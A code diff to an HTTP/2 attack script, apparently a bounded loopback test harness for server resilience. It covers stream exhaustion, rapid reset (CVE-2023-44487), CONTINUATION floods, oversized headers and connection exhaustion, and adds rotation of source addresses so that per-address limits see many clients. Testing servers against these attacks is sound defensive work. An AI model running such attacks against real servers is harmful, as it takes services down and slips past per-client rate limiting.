@@ -4,7 +4,7 @@ Our own frame writer (RFC 9113 framing, RFC 7541 literal header fields): the
 attacks need frames no well-behaved library will send. Plaintext h2c with
 prior knowledge, loopback only; every attack is bounded in count and time.
 
-  h2_attack.py ATTACK HOST:PORT [N] [SECONDS]
+  h2_attack.py ATTACK HOST:PORT [N] [SECONDS] [SOURCES]
     streams      open N streams on one connection and never finish them
     rapid_reset  N x (HEADERS, RST_STREAM) on one connection (CVE-2023-44487)
     continuation HEADERS then CONTINUATION frames, N bytes in all, never
@@ -12,6 +12,9 @@ prior knowledge, loopback only; every attack is bounded in count and time.
     big_header   one request whose header block is N bytes, in one write
     idle         N connections that send the preface and SETTINGS, then idle
     silent       N TCP connections that never send a byte (fd exhaustion)
+SOURCES: the local addresses connections come from, one ("127.0.0.2") or a
+range of last octets ("127.0.0.2-21"), taken in turn; by default the
+system's choice. Many clients, as far as per-address limits can tell.
 Prints one JSON line: what was sent and what the server answered.
 """
 
@@ -64,9 +67,28 @@ def request_block(path="/grpc.health.v1.Health/Check", extra=()):
     return b"".join(literal(n, v) for n, v in fields)
 
 
+def sources(spec):
+    """An endless cycle of source addresses from SOURCES (None: any)."""
+    if not spec:
+        while True:
+            yield None
+    base, _, last = spec.partition("-")
+    prefix, first = base.rsplit(".", 1)
+    octets = range(int(first), int(last or first) + 1)
+    while True:
+        for octet in octets:
+            yield "%s.%d" % (prefix, octet)
+
+
+SOURCE = sources(None)
+
+
 class Conn:
     def __init__(self, addr, timeout=10):
-        self.sock = socket.create_connection(addr, timeout=timeout)
+        source = next(SOURCE)
+        self.sock = socket.create_connection(
+            addr, timeout=timeout,
+            source_address=(source, 0) if source else None)
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.buf = b""
         self.settings = {}
@@ -257,6 +279,8 @@ def main():
     addr = (host, int(port))
     n = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
     seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 20
+    global SOURCE
+    SOURCE = sources(sys.argv[5] if len(sys.argv) > 5 else None)
     start = time.monotonic()
     if kind in ("idle", "silent"):
         result, held = attack_connections(addr, n, seconds, kind == "idle")
